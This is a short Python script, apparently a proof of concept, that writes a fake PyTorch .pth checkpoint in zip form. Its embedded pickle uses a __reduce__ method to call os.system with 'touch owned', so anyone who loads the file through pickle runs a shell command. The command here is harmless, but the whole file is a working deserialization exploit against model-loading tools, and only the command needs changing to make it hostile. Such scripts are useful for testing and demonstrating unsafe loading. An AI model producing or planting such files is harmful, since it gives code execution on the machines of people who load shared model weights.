#!/usr/bin/env python3
"""Writes a .pth as torch.save would, whose pickle runs a command when Python loads it.

    evil_pth.py OUT.pth
"""
import os
import pickle
import sys
import zipfile


class Evil:
    def __reduce__(self):
        return os.system, ('touch owned',)


with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_STORED) as archive:
    archive.writestr('consolidated/data.pkl', pickle.dumps({'a': Evil()}, protocol=2))
